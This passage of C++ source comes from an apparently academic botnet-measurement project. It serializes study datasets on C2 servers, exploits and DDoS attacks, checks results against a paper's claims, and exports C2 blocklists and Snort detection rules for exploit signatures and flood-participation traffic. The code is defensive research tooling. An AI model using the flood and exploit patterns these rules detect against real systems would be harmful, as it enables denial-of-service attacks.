
/// Figure 5/6 C2 sharing.
struct SharingStats {
  util::Cdf samples_per_c2_ip;
  util::Cdf samples_per_domain;
  double multi_sample_fraction = 0;  // C2s contacted by >1 binary ("60%")
};

[[nodiscard]] SharingStats sharing_stats(const core::StudyResults& results);

/// Figure 4 probe responsiveness.
struct ProbeStats {
  int targets = 0;
  int rounds = 0;
  double second_probe_nonresponse = 0;  // P(no response at +4h | response) ("91%")
  int days_with_all_probes_answered = 0;  // paper: zero such days
  double response_rate = 0;               // overall fraction of responsive probes
};

[[nodiscard]] ProbeStats probe_stats(const core::ProbeCampaignResult& pc2,
                                     int probes_per_day = 6);

/// §3.1 downloader/C2 co-hosting.
struct DownloaderStats {
  int distinct_downloaders = 0;  // "47 distinct downloader addresses"
  int not_known_c2 = 0;          // "only 12 ... not identified as C2"
};

[[nodiscard]] DownloaderStats downloader_stats(const core::StudyResults& results);

/// §5 DDoS aggregates.
struct DdosStats {
  int total_attacks = 0;  // "42"
  std::map<std::string, int> by_type;                       // Figure 11 axis
  std::map<std::pair<std::string, std::string>, int> by_type_family;  // Fig 11
  std::map<std::string, int> by_protocol;                   // Figure 10
  int distinct_c2s = 0;      // "17"
  int distinct_samples = 0;  // "20"
  int attack_types_seen = 0; // "8"
  int gaming_types_seen = 0; // "two types ... targeting gaming servers"
  std::map<std::string, int> c2_countries;      // USA/NL/CZ dominance
  std::map<std::string, int> target_as_types;   // Figure 12 (ISP 45% ...)
  std::map<std::string, int> target_countries;  // Figure 12
  double gaming_as_fraction = 0;                // "18% of the ASes"
  double multi_attack_target_fraction = 0;      // "25% ... two attack types"
  double port80_fraction = 0;                   // "21% of the attacks"
  double port443_fraction = 0;                  // "7%"
};

[[nodiscard]] DdosStats ddos_stats(const core::StudyResults& results,
                                   const asdb::AsDatabase& asdb);

/// Per-(study week, ASN) C2 counts behind Figure 1.
[[nodiscard]] std::map<std::pair<int, std::uint32_t>, int> weekly_as_counts(
    const core::StudyResults& results);

/// Distinct ASes hosting C2s and the per-AS counts (Figure 13 / Table 2).
[[nodiscard]] std::map<std::uint32_t, int> c2s_per_as(const core::StudyResults& results);

/// §3.1: the fraction of the overall top-10 ASes that rank among a week's
/// top-10 in at least half of the weeks where they host anything
/// (paper: "60% ... consistently appear as top hosting ASes ... weekly").
[[nodiscard]] double weekly_top_as_consistency(const core::StudyResults& results);

}  // namespace malnet::report
