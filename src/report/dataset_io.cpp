#include "report/dataset_io.hpp"

#include <fstream>

#include "util/fsio.hpp"

namespace malnet::report {

namespace {

void put_string(util::ByteWriter& w, const std::string& s) { w.lp16(s); }

std::string get_string(util::ByteReader& r) { return util::to_string(r.lp16()); }

void put_days(util::ByteWriter& w, const std::vector<std::int64_t>& days) {
  w.u32(static_cast<std::uint32_t>(days.size()));
  for (const auto d : days) w.u64(static_cast<std::uint64_t>(d));
}

std::vector<std::int64_t> get_days(util::ByteReader& r) {
  const std::uint32_t n = r.u32();
  std::vector<std::int64_t> out;
  out.reserve(n);
  for (std::uint32_t i = 0; i < n; ++i) {
    out.push_back(static_cast<std::int64_t>(r.u64()));
  }
  return out;
}

void put_command(util::ByteWriter& w, const proto::AttackCommand& cmd) {
  w.u8(static_cast<std::uint8_t>(cmd.type));
  w.u8(static_cast<std::uint8_t>(cmd.family));
  w.u32(cmd.target.ip.value);
  w.u16(cmd.target.port);
  w.u32(cmd.duration_s);
  w.lp16(util::BytesView{cmd.raw});
}

std::optional<proto::AttackCommand> get_command(util::ByteReader& r) {
  proto::AttackCommand cmd;
  const std::uint8_t type = r.u8();
  const std::uint8_t family = r.u8();
  if (type >= proto::kAttackTypeCount || family >= proto::kFamilyCount) {
    return std::nullopt;
  }
  cmd.type = static_cast<proto::AttackType>(type);
  cmd.family = static_cast<proto::Family>(family);
  cmd.target.ip = net::Ipv4{r.u32()};
  cmd.target.port = r.u16();
  cmd.duration_s = r.u32();
  cmd.raw = r.lp16();
  return cmd;
}

}  // namespace

util::Bytes serialize_datasets(const core::StudyResults& results) {
  util::ByteWriter w;
  w.u32(kDatasetMagic);
  // Version 2 appends the degraded-samples section; clean runs (degraded
  // empty) still write version 1, byte-identical to pre-chaos artifacts.
  const std::uint8_t version = results.degraded.empty() ? 1 : 2;
  w.u8(version);

  // D-Samples (metadata only).
  w.u32(static_cast<std::uint32_t>(results.d_samples.size()));
  for (const auto& s : results.d_samples) {
    put_string(w, s.sha256);
    w.u64(static_cast<std::uint64_t>(s.day));
    w.u8(s.source == botnet::FeedSource::kVirusTotal ? 0 : 1);
    w.u16(static_cast<std::uint16_t>(s.vt_detections));
    w.u8(static_cast<std::uint8_t>(s.label));
    w.u8(static_cast<std::uint8_t>((s.p2p ? 1 : 0) | (s.activated ? 2 : 0) |
                                   (s.evasion_abort ? 4 : 0)));
    w.u8(static_cast<std::uint8_t>(s.c2_addresses.size()));
    for (const auto& a : s.c2_addresses) put_string(w, a);
  }

  // D-C2s.
  w.u32(static_cast<std::uint32_t>(results.d_c2s.size()));
  for (const auto& [addr, rec] : results.d_c2s) {
    put_string(w, addr);
    w.u8(rec.is_dns ? 1 : 0);
    w.u32(rec.ip.value);
    w.u16(rec.port);
    w.u32(rec.asn);
    put_string(w, rec.as_country);
    w.u64(static_cast<std::uint64_t>(rec.discovery_day));
    put_days(w, rec.referred_days);
    put_days(w, rec.live_days);
    w.u32(static_cast<std::uint32_t>(rec.distinct_samples));
    w.u8(static_cast<std::uint8_t>((rec.vt_malicious_same_day ? 1 : 0) |
                                   (rec.vt_malicious_requery ? 2 : 0) |
                                   (rec.is_downloader ? 4 : 0)));
    w.u16(static_cast<std::uint16_t>(rec.vt_vendors_same_day));
  }

  // D-Exploits.
  w.u32(static_cast<std::uint32_t>(results.d_exploits.size()));
  for (const auto& e : results.d_exploits) {
    put_string(w, e.sample_sha);
    w.u64(static_cast<std::uint64_t>(e.day));
    w.u8(static_cast<std::uint8_t>(e.vuln));
    put_string(w, e.downloader_host);
    put_string(w, e.loader_name);
  }

  // D-DDOS.
  w.u32(static_cast<std::uint32_t>(results.d_ddos.size()));
  for (const auto& d : results.d_ddos) {
    put_string(w, d.sample_sha);
    w.u64(static_cast<std::uint64_t>(d.day));
    put_string(w, d.c2_address);
    w.u32(d.c2.ip.value);
    w.u16(d.c2.port);
    w.u32(d.c2_asn);
    put_string(w, d.c2_country);
    w.u8(d.detection.method == core::DdosMethod::kProtocolProfile ? 0 : 1);
    w.u8(d.detection.verified ? 1 : 0);
    w.u32(static_cast<std::uint32_t>(d.detection.observed_pps));
    put_command(w, d.detection.command);
  }

  // D-PC2.
  w.u32(static_cast<std::uint32_t>(results.d_pc2.rounds));
  w.u32(static_cast<std::uint32_t>(results.d_pc2.raster.size()));
  for (const auto& [ep, bits] : results.d_pc2.raster) {
    w.u32(ep.ip.value);
    w.u16(ep.port);
    w.u32(static_cast<std::uint32_t>(bits.size()));
    for (const bool b : bits) w.u8(b ? 1 : 0);
  }
  w.u64(results.d_pc2.scout_probes);
  w.u64(results.d_pc2.weapon_runs);
  w.u64(results.d_pc2.banner_filtered);

  // Downloaders + counters.
  w.u32(static_cast<std::uint32_t>(results.downloader_hosts.size()));
  for (const auto& h : results.downloader_hosts) put_string(w, h);
  w.u64(results.sandbox_runs);
  w.u64(results.sim_events);
  w.u64(results.non_mips_skipped);
  w.u64(results.truth_commands_issued);
  w.u64(results.truth_planned_c2s);

  // Degraded samples (v2 only).
  if (version >= 2) {
    w.u32(static_cast<std::uint32_t>(results.degraded.size()));
    for (const auto& d : results.degraded) {
      put_string(w, d.sha256);
      w.u64(static_cast<std::uint64_t>(d.day));
      put_string(w, d.reason);
    }
  }
  return w.take();
}

std::optional<core::StudyResults> parse_datasets(util::BytesView data) {
  try {
    util::ByteReader r(data);
    if (r.u32() != kDatasetMagic) return std::nullopt;
    const std::uint8_t version = r.u8();
    if (version != 1 && version != 2) return std::nullopt;
    core::StudyResults out;

    const std::uint32_t n_samples = r.u32();
    for (std::uint32_t i = 0; i < n_samples; ++i) {
      core::SampleRecord s;
      s.sha256 = get_string(r);
      s.day = static_cast<std::int64_t>(r.u64());
      s.source = r.u8() == 0 ? botnet::FeedSource::kVirusTotal
                             : botnet::FeedSource::kMalwareBazaar;
      s.vt_detections = r.u16();
      const std::uint8_t label = r.u8();
      if (label >= proto::kFamilyCount) return std::nullopt;
      s.label = static_cast<proto::Family>(label);
      const std::uint8_t flags = r.u8();
      s.p2p = flags & 1;
      s.activated = flags & 2;
      s.evasion_abort = flags & 4;
      const std::uint8_t n_addrs = r.u8();
      for (std::uint8_t k = 0; k < n_addrs; ++k) {
        s.c2_addresses.push_back(get_string(r));
      }
      out.d_samples.push_back(std::move(s));
    }

    const std::uint32_t n_c2s = r.u32();
    for (std::uint32_t i = 0; i < n_c2s; ++i) {
      const std::string addr = get_string(r);
      core::C2Record rec;
      rec.address = addr;
      rec.is_dns = r.u8() != 0;
      rec.ip = net::Ipv4{r.u32()};
      rec.port = r.u16();
      rec.asn = r.u32();
      rec.as_country = get_string(r);
      rec.discovery_day = static_cast<std::int64_t>(r.u64());
      rec.referred_days = get_days(r);
      rec.live_days = get_days(r);
      rec.distinct_samples = static_cast<int>(r.u32());
      const std::uint8_t flags = r.u8();
      rec.vt_malicious_same_day = flags & 1;
      rec.vt_malicious_requery = flags & 2;
      rec.is_downloader = flags & 4;
      rec.vt_vendors_same_day = r.u16();
      out.d_c2s.emplace(addr, std::move(rec));
    }

    const std::uint32_t n_exploits = r.u32();
    for (std::uint32_t i = 0; i < n_exploits; ++i) {
      core::ExploitRecord e;
      e.sample_sha = get_string(r);
      e.day = static_cast<std::int64_t>(r.u64());
      const std::uint8_t vuln = r.u8();
      if (vuln >= vulndb::kVulnCount) return std::nullopt;
      e.vuln = static_cast<vulndb::VulnId>(vuln);
      e.downloader_host = get_string(r);
      e.loader_name = get_string(r);
      out.d_exploits.push_back(std::move(e));
    }

    const std::uint32_t n_ddos = r.u32();
    for (std::uint32_t i = 0; i < n_ddos; ++i) {
      core::DdosRecord d;
      d.sample_sha = get_string(r);
      d.day = static_cast<std::int64_t>(r.u64());
      d.c2_address = get_string(r);
      d.c2.ip = net::Ipv4{r.u32()};
      d.c2.port = r.u16();
      d.c2_asn = r.u32();
      d.c2_country = get_string(r);
      d.detection.method = r.u8() == 0 ? core::DdosMethod::kProtocolProfile
                                       : core::DdosMethod::kBehaviouralHeuristic;
      d.detection.verified = r.u8() != 0;
      d.detection.observed_pps = r.u32();
      auto cmd = get_command(r);
      if (!cmd) return std::nullopt;
      d.detection.command = std::move(*cmd);
      out.d_ddos.push_back(std::move(d));
    }

    out.d_pc2.rounds = static_cast<int>(r.u32());
    const std::uint32_t n_targets = r.u32();
    for (std::uint32_t i = 0; i < n_targets; ++i) {
      net::Endpoint ep;
      ep.ip = net::Ipv4{r.u32()};
      ep.port = r.u16();
      const std::uint32_t n_bits = r.u32();
      std::vector<bool> bits;
      bits.reserve(n_bits);
      for (std::uint32_t b = 0; b < n_bits; ++b) bits.push_back(r.u8() != 0);
      out.d_pc2.raster.emplace(ep, std::move(bits));
    }
    out.d_pc2.scout_probes = r.u64();
    out.d_pc2.weapon_runs = r.u64();
    out.d_pc2.banner_filtered = r.u64();

    const std::uint32_t n_dl = r.u32();
    for (std::uint32_t i = 0; i < n_dl; ++i) {
      out.downloader_hosts.insert(get_string(r));
    }
    out.sandbox_runs = r.u64();
    out.sim_events = r.u64();
    out.non_mips_skipped = r.u64();
    out.truth_commands_issued = r.u64();
    out.truth_planned_c2s = r.u64();
    if (version >= 2) {
      const std::uint32_t n_degraded = r.u32();
      for (std::uint32_t i = 0; i < n_degraded; ++i) {
        core::DegradedSample d;
        d.sha256 = get_string(r);
        d.day = static_cast<std::int64_t>(r.u64());
        d.reason = get_string(r);
        out.degraded.push_back(std::move(d));
      }
    }
    if (!r.done()) return std::nullopt;
    return out;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

void save_datasets(const core::StudyResults& results, const std::string& path) {
  // Crash-safety: a kill mid-save must never leave a truncated artifact at
  // `path` that load_datasets rejects — or, worse, clobber a good previous
  // artifact with partial bytes. Stage + atomic rename instead.
  const auto bytes = serialize_datasets(results);
  try {
    util::write_file_atomic(path, util::BytesView{bytes});
  } catch (const std::exception& e) {
    throw std::runtime_error("save_datasets: " + std::string(e.what()));
  }
}

core::StudyResults load_datasets(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  if (!f) throw std::runtime_error("load_datasets: cannot open " + path);
  const util::Bytes data((std::istreambuf_iterator<char>(f)),
                         std::istreambuf_iterator<char>());
  auto parsed = parse_datasets(data);
  if (!parsed) throw std::runtime_error("load_datasets: corrupt artifact " + path);
  return std::move(*parsed);
}

}  // namespace malnet::report
