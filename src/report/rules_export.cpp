#include "report/rules_export.hpp"

#include <set>
#include <sstream>

#include "util/str.hpp"
#include "vulndb/vulndb.hpp"

namespace malnet::report {

std::vector<Ioc> build_blocklist(const core::StudyResults& results,
                                 const RuleExportOptions& opts) {
  std::vector<Ioc> out;
  std::set<std::string> seen;

  for (const auto& [addr, rec] : results.d_c2s) {
    if (opts.require_live_or_requery && !rec.ever_live() && !rec.vt_malicious_requery) {
      continue;
    }
    if (!seen.insert(addr).second) continue;
    Ioc ioc;
    ioc.address = addr;
    ioc.is_dns = rec.is_dns;
    ioc.port = rec.port;
    ioc.reason = rec.is_downloader ? "C2 + malware downloader" : "C2 server";
    ioc.first_seen_day = rec.discovery_day;
    out.push_back(std::move(ioc));
  }

  if (opts.include_downloaders) {
    for (const auto& host : results.downloader_hosts) {
      if (!seen.insert(host).second) continue;  // usually already a C2 (§3.1)
      Ioc ioc;
      ioc.address = host;
      ioc.port = 80;  // "All downloader servers host on http port 80" (§3.1)
      ioc.reason = "malware downloader";
      out.push_back(std::move(ioc));
    }
  }
  return out;
}

namespace {

/// Escapes a vulndb signature for a SNORT content pattern: non-printable
/// bytes and the delimiter set go through |hex| escapes.
std::string escape_content(std::string_view signature) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  bool in_hex = false;
  const auto set_hex = [&](bool on) {
    if (in_hex != on) {
      out += '|';
      in_hex = on;
    }
  };
  for (const unsigned char c : signature) {
    if (c == '"' || c == ';' || c == '|' || c == ':' || c < 0x20 || c >= 0x7F) {
      set_hex(true);
      out += kHex[c >> 4];
      out += kHex[c & 0xF];
      out += ' ';
    } else {
      set_hex(false);
      out += static_cast<char>(c);
    }
  }
  set_hex(false);
  return out;
}

std::set<vulndb::VulnId> observed_vulns(const core::StudyResults& results) {
  std::set<vulndb::VulnId> vulns;
  for (const auto& e : results.d_exploits) vulns.insert(e.vuln);
  return vulns;
}

}  // namespace

std::string export_snort_rules(const core::StudyResults& results,
                               const RuleExportOptions& opts) {
  std::ostringstream os;
  os << "# MalNet generated ruleset — C2 blocklist + exploit signatures\n";

  std::uint32_t sid = 1000001;
  for (const auto& ioc : build_blocklist(results, opts)) {
    if (ioc.is_dns) {
      // IP rules can't carry names; emit a DNS-query alert keyed on the
      // name instead (perimeter resolvers can act on it).
      os << "alert udp any any -> any 53 (msg:\"MalNet DNS lookup of " << ioc.address
         << " (" << ioc.reason << ")\"; content:\"" << ioc.address
         << "\"; nocase; sid:" << sid++ << ";)\n";
      continue;
    }
    os << "drop ip any any -> " << ioc.address << "/32 any (msg:\"MalNet "
       << ioc.reason << ", first seen day " << ioc.first_seen_day
       << "\"; sid:" << sid++ << ";)\n";
  }

  const auto& vdb = vulndb::VulnDatabase::instance();
  std::uint32_t exploit_sid = 2000001;
  for (const auto id : observed_vulns(results)) {
    const auto& v = vdb.by_id(id);
    os << "alert tcp any any -> any " << v.port << " (msg:\"MalNet exploit "
       << v.name << " (" << v.target_device << ")\"; content:\""
       << escape_content(v.signature) << "\"; sid:" << exploit_sid++ << ";)\n";
  }

  // Attack-participation signatures for the attack types this study
  // actually observed (an infected device flooding *outward*).
  std::set<proto::AttackType> seen_types;
  for (const auto& d : results.d_ddos) seen_types.insert(d.detection.command.type);
  std::uint32_t attack_sid = 3000001;
  for (const auto type : seen_types) {
    switch (type) {
      case proto::AttackType::kVse:
        os << "alert udp any any -> any any (msg:\"MalNet VSE flood "
              "participation\"; content:\"Source Engine Query\"; sid:"
           << attack_sid++ << ";)\n";
        break;
      case proto::AttackType::kNfo:
        os << "alert udp any any -> any 238 (msg:\"MalNet NFO flood "
              "participation\"; content:\"NFOV6\"; sid:"
           << attack_sid++ << ";)\n";
        break;
      case proto::AttackType::kBlacknurse:
        os << "alert icmp any any -> any any (msg:\"MalNet BLACKNURSE "
              "participation\"; itype:3; icode:3; sid:"
           << attack_sid++ << ";)\n";
        break;
      case proto::AttackType::kStomp:
        os << "alert tcp any any -> any any (msg:\"MalNet STOMP flood "
              "participation\"; content:\"CONNECT|0A|accept-version\"; sid:"
           << attack_sid++ << ";)\n";
        break;
      default:
        break;  // plain floods carry no distinctive payload
    }
  }
  return os.str();
}

std::string export_iptables(const core::StudyResults& results,
                            const RuleExportOptions& opts) {
  std::ostringstream os;
  os << "# MalNet blocklist (iptables-restore fragment)\n*filter\n";
  for (const auto& ioc : build_blocklist(results, opts)) {
    if (ioc.is_dns) {
      os << "# domain IoC (needs a resolver RPZ): " << ioc.address << "  # "
         << ioc.reason << '\n';
      continue;
    }
    os << "-A FORWARD -d " << ioc.address << " -j DROP  # " << ioc.reason
       << ", first seen day " << ioc.first_seen_day << '\n';
  }
  os << "COMMIT\n";
  return os.str();
}

std::string export_plain_blocklist(const core::StudyResults& results,
                                   const RuleExportOptions& opts) {
  std::ostringstream os;
  for (const auto& ioc : build_blocklist(results, opts)) os << ioc.address << '\n';
  return os.str();
}

ids::RuleSet compile_exported_rules(const core::StudyResults& results,
                                    const RuleExportOptions& opts) {
  ids::ParseError err;
  auto set = ids::RuleSet::parse(export_snort_rules(results, opts), &err);
  if (!set) {
    throw std::runtime_error("generated rule failed to parse at line " +
                             std::to_string(err.line) + ": " + err.message);
  }
  return std::move(*set);
}

}  // namespace malnet::report
