// ASCII rendering for tables, CDFs, histograms, heatmaps and rasters —
// the terminal equivalents of the paper's figures.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "util/stats.hpp"

namespace malnet::report {

/// A simple text table with a header row and aligned columns.
class TextTable {
 public:
  explicit TextTable(std::vector<std::string> header);

  void row(std::vector<std::string> cells);
  [[nodiscard]] std::string render() const;
  [[nodiscard]] std::size_t rows() const { return rows_.size(); }

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

/// Renders a CDF as "value  cum%" pairs sampled at up to `max_points`
/// distinct values, plus min/mean/max summary.
[[nodiscard]] std::string render_cdf(const util::Cdf& cdf, const std::string& x_label,
                                     std::size_t max_points = 20);

/// Horizontal bar chart from (label, count) pairs.
[[nodiscard]] std::string render_bars(
    const std::vector<std::pair<std::string, double>>& data, int width = 40);

/// Heatmap: rows x cols of counts, rendered with density glyphs " .:-=+*#%@".
[[nodiscard]] std::string render_heatmap(const std::vector<std::string>& row_labels,
                                         const std::vector<std::vector<double>>& cells);

/// Boolean raster (Figure 4 style): '#' responsive, '.' silent.
[[nodiscard]] std::string render_raster(const std::vector<std::string>& row_labels,
                                        const std::vector<std::vector<bool>>& rows);

}  // namespace malnet::report
