// Dataset serialization — the open-data commitment of §1 ("Our group is
// committed ... sharing tools and our data openly"): the five study
// datasets serialize to a single compact binary artifact ("MDS", MalNet
// DataSet) that reloads bit-identically, so analyses can be re-run and
// extended without re-simulating the year.
#pragma once

#include <optional>
#include <string>

#include "core/pipeline.hpp"

namespace malnet::report {

inline constexpr std::uint32_t kDatasetMagic = 0x4D445331;  // "MDS1"

/// Serializes every dataset (D-Samples metadata, D-C2s, D-Exploits,
/// D-DDOS, D-PC2, downloader set and counters). Binary *bytes* of samples
/// are not included — the datasets describe findings, not malware.
[[nodiscard]] util::Bytes serialize_datasets(const core::StudyResults& results);

/// Parses an artifact produced by serialize_datasets. Returns nullopt on
/// bad magic/version or structural corruption.
[[nodiscard]] std::optional<core::StudyResults> parse_datasets(util::BytesView data);

/// File convenience wrappers; throw on I/O failure.
void save_datasets(const core::StudyResults& results, const std::string& path);
[[nodiscard]] core::StudyResults load_datasets(const std::string& path);

}  // namespace malnet::report
