// CSV series exports: the numeric data behind each figure, in a form any
// plotting stack can ingest directly (one file per figure). The ASCII
// figures in figures.hpp are for the terminal; these are for papers.
#pragma once

#include <map>
#include <string>

#include "core/pipeline.hpp"

namespace malnet::report {

/// Returns { filename -> CSV content } covering every figure:
///   fig1_weekly_heatmap.csv   week, asn, as_name, c2_count
///   fig2_lifetime_ip.csv      lifetime_days, cumulative_fraction
///   fig3_lifetime_domain.csv  lifetime_days, cumulative_fraction
///   fig4_probe_raster.csv     target, round, responded
///   fig5_samples_per_c2.csv   samples, cumulative_fraction
///   fig6_samples_per_domain.csv
///   fig7_vendor_cdf.csv       vendors, cumulative_fraction
///   fig8_vuln_weekly.csv      vulnerability, week, binaries
///   fig9_loaders.csv          loader, binaries
///   fig10_protocols.csv       protocol, attacks
///   fig11_types.csv           attack_type, family, attacks
///   fig12_targets.csv         dimension (as_type|country|c2_country), key, count
///   fig13_as_rank.csv         rank, asn, c2_count, cumulative_fraction
[[nodiscard]] std::map<std::string, std::string> export_figure_series(
    const core::StudyResults& results, const asdb::AsDatabase& asdb);

/// Writes every series into `directory` (created by the caller). Returns
/// the number of files written; throws on I/O failure.
std::size_t write_figure_series(const core::StudyResults& results,
                                const asdb::AsDatabase& asdb,
                                const std::string& directory);

}  // namespace malnet::report
