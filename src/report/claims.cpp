#include "report/claims.hpp"

#include <algorithm>
#include <cmath>
#include <set>
#include <sstream>

#include "report/render.hpp"
#include "report/summary.hpp"
#include "util/str.hpp"

namespace malnet::report {

std::vector<ClaimCheck> check_claims(const core::StudyResults& results,
                                     const asdb::AsDatabase& asdb) {
  std::vector<ClaimCheck> out;
  const auto add = [&out](std::string id, std::string claim, double paper,
                          double measured, double abs_tol) {
    ClaimCheck c;
    c.id = std::move(id);
    c.claim = std::move(claim);
    c.paper = paper;
    c.measured = measured;
    c.abs_tol = abs_tol;
    c.pass = std::fabs(c.error()) <= abs_tol;
    out.push_back(std::move(c));
  };

  const auto ls = lifespan_stats(results);
  const auto ti = ti_stats(results);
  const auto ps = probe_stats(results.d_pc2);
  const auto dd = ddos_stats(results, asdb);
  const auto dl = downloader_stats(results);
  const auto sh = sharing_stats(results);

  add("T1-samples", "1447 MIPS binaries collected",
      1447, static_cast<double>(results.d_samples.size()), 0);
  add("S3.2-second-probe",
      "91% of the time no response to a probe 4h after a success",
      0.91, ps.second_probe_nonresponse, 0.05);
  add("S3.2-full-days", "servers never answer all six daily probes",
      0, ps.days_with_all_probes_answered, 0);
  add("S3.2-dead-on-arrival", "60% of samples have a dead C2 on day 0",
      0.60, ls.dead_on_arrival, 0.10);
  add("F2-one-day", "~80% of observed lifespans are one day",
      0.80, ls.one_day_fraction, 0.10);
  add("F2-mean", "mean observed lifespan ~4 days",
      4.0, ls.mean_days, 1.0);
  add("S5-attacker-lifespan", "attack-issuing C2s live ~10 days",
      10.0, ls.attacker_mean_days, 3.5);
  add("T3-same-day-all", "15.3% of C2s unknown to TI on discovery day",
      0.153, ti.miss_all_same_day, 0.04);
  add("T3-requery-all", "3.3% still unknown at the May 7 re-query",
      0.033, ti.miss_all_requery, 0.015);
  add("F7-two-feeds", "~25% of known C2s flagged by at most two feeds",
      0.25, ti.vendors_per_c2.empty() ? 0.0 : ti.vendors_per_c2.at(2.0), 0.08);
  add("F5-multi-binary", "~60% of C2s contacted by more than one binary",
      0.60, sh.multi_sample_fraction, 0.15);
  add("S5-attacks", "42 DDoS attacks observed",
      42, dd.total_attacks, 5);
  add("S5-types", "8 distinct attack types",
      8, dd.attack_types_seen, 0);
  add("S5-gaming", "two attack types target gaming servers",
      2, dd.gaming_types_seen, 0);
  add("S5-issuers", "17 distinct attack-issuing C2 servers",
      17, dd.distinct_c2s, 3);
  add("S5.2-multi-target", "25% of targets hit by two attack types",
      0.25, dd.multi_attack_target_fraction, 0.08);
  add("S3.1-downloaders", "47 distinct downloader addresses",
      47, dl.distinct_downloaders, 12);
  add("S3.1-downloader-not-c2", "only 12 downloaders not known as C2s",
      12, dl.not_known_c2, 6);

  // Table 4 / §4 vulnerability claims.
  std::set<vulndb::VulnId> vulns;
  for (const auto& e : results.d_exploits) vulns.insert(e.vuln);
  add("S4-distinct-vulns", "12 distinct vulnerability rows exploited",
      13, static_cast<double>(vulns.size()), 1);  // 13 entries = 12 paper rows
  int old_entries = 0;
  for (const auto& v : vulndb::VulnDatabase::instance().all()) {
    if (v.age_years_at(404) > 4.0) ++old_entries;
  }
  add("S4-old-vulns", "9 vulnerabilities older than 4 years",
      9, old_entries, 0);

  // Table 2 claims.
  const auto per_as = c2s_per_as(results);
  std::vector<int> counts;
  int total = 0;
  for (const auto& [asn, n] : per_as) {
    counts.push_back(n);
    total += n;
  }
  std::sort(counts.rbegin(), counts.rend());
  int top10 = 0;
  for (std::size_t i = 0; i < counts.size() && i < 10; ++i) top10 += counts[i];
  add("T2-concentration", "top-10 ASes host 69.7% of C2s",
      0.697, total > 0 ? static_cast<double>(top10) / total : 0.0, 0.06);
  add("F13-as-count", "C2s spread across 128 ASes",
      128, static_cast<double>(per_as.size()), 15);
  int activated = 0;
  for (const auto& s : results.d_samples) activated += s.activated ? 1 : 0;
  add("S6f-activation", "~90% sandbox activation rate",
      0.90,
      results.d_samples.empty()
          ? 0.0
          : static_cast<double>(activated) / results.d_samples.size(),
      0.05);
  add("S3.1-weekly-consistency",
      "60% of top ASes appear as weekly top hosters consistently",
      0.60, weekly_top_as_consistency(results), 0.30);

  return out;
}

std::string render_claims(const std::vector<ClaimCheck>& checks) {
  TextTable t({"", "Claim", "Paper", "Measured", "Id"});
  int passed = 0;
  for (const auto& c : checks) {
    if (c.pass) ++passed;
    t.row({c.pass ? "PASS" : "MISS", c.claim, util::fixed(c.paper, 3),
           util::fixed(c.measured, 3), c.id});
  }
  std::ostringstream os;
  os << "Headline-claim scorecard\n"
     << t.render() << passed << " / " << checks.size() << " claims within tolerance\n";
  return os.str();
}

}  // namespace malnet::report
