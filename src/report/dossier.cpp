#include "report/dossier.hpp"

#include <set>
#include <sstream>

#include "util/simtime.hpp"
#include "util/str.hpp"
#include "vulndb/vulndb.hpp"

namespace malnet::report {

std::optional<C2Dossier> build_c2_dossier(const core::StudyResults& results,
                                          const asdb::AsDatabase& asdb,
                                          const std::string& address) {
  const auto it = results.d_c2s.find(address);
  if (it == results.d_c2s.end()) return std::nullopt;

  C2Dossier dossier;
  dossier.record = it->second;
  if (const auto* as = asdb.by_ip(it->second.ip)) dossier.as_info = *as;
  dossier.serves_loaders = it->second.is_downloader;

  std::set<std::string> sample_shas;
  for (const auto& s : results.d_samples) {
    for (const auto& addr : s.c2_addresses) {
      if (addr == address) {
        dossier.samples.push_back(s);
        sample_shas.insert(s.sha256);
        break;
      }
    }
  }
  for (const auto& e : results.d_exploits) {
    if (sample_shas.count(e.sample_sha) > 0) dossier.exploits.push_back(e);
  }
  for (const auto& d : results.d_ddos) {
    if (d.c2_address == address) dossier.attacks.push_back(d);
  }
  return dossier;
}

std::optional<SampleDossier> build_sample_dossier(const core::StudyResults& results,
                                                  const std::string& sha256) {
  SampleDossier dossier;
  bool found = false;
  for (const auto& s : results.d_samples) {
    if (s.sha256 == sha256) {
      dossier.record = s;
      found = true;
      break;
    }
  }
  if (!found) return std::nullopt;
  for (const auto& addr : dossier.record.c2_addresses) {
    const auto it = results.d_c2s.find(addr);
    if (it != results.d_c2s.end()) dossier.c2s.push_back(it->second);
  }
  for (const auto& e : results.d_exploits) {
    if (e.sample_sha == sha256) dossier.exploits.push_back(e);
  }
  for (const auto& d : results.d_ddos) {
    if (d.sample_sha == sha256) dossier.attacks.push_back(d);
  }
  return dossier;
}

namespace {

void render_exploits(std::ostringstream& os,
                     const std::vector<core::ExploitRecord>& exploits) {
  std::set<std::string> lines;
  for (const auto& e : exploits) {
    const auto& v = vulndb::VulnDatabase::instance().by_id(e.vuln);
    lines.insert("  - " + v.name + " against " + v.target_device +
                 " (loader http://" + e.downloader_host + "/" + e.loader_name + ")");
  }
  for (const auto& l : lines) os << l << '\n';
}

void render_attacks(std::ostringstream& os,
                    const std::vector<core::DdosRecord>& attacks) {
  for (const auto& a : attacks) {
    os << "  - day " << a.day << " (" << util::study_date(a.day) << "): "
       << a.detection.command.summary() << " ["
       << core::to_string(a.detection.method) << "]\n";
  }
}

}  // namespace

std::string render_dossier(const C2Dossier& dossier) {
  std::ostringstream os;
  const auto& rec = dossier.record;
  os << "=== C2 dossier: " << rec.address << " ===\n";
  os << "endpoint " << net::to_string(rec.ip) << ':' << rec.port
     << (rec.is_dns ? " (DNS-fronted)" : "") << '\n';
  if (dossier.as_info) {
    os << "hosted at AS" << dossier.as_info->asn << " " << dossier.as_info->name
       << " (" << dossier.as_info->country << ", "
       << asdb::to_string(dossier.as_info->type)
       << (dossier.as_info->anti_ddos ? ", sells anti-DDoS" : "") << ")\n";
  }
  os << "first seen day " << rec.discovery_day << " ("
     << util::study_date(rec.discovery_day) << "); observed live on "
     << rec.live_days.size() << " day(s); observed lifespan "
     << rec.observed_lifespan_days() << " day(s)\n";
  os << "threat intel: " << (rec.vt_malicious_same_day ? "known" : "MISSED")
     << " on discovery day (" << rec.vt_vendors_same_day << " vendors), "
     << (rec.vt_malicious_requery ? "known" : "still missed") << " at re-query\n";
  if (dossier.serves_loaders) {
    os << "also serves malware loaders over http/80 (downloader co-hosting)\n";
  }
  os << "\nreferred by " << dossier.samples.size() << " binarie(s):\n";
  for (const auto& s : dossier.samples) {
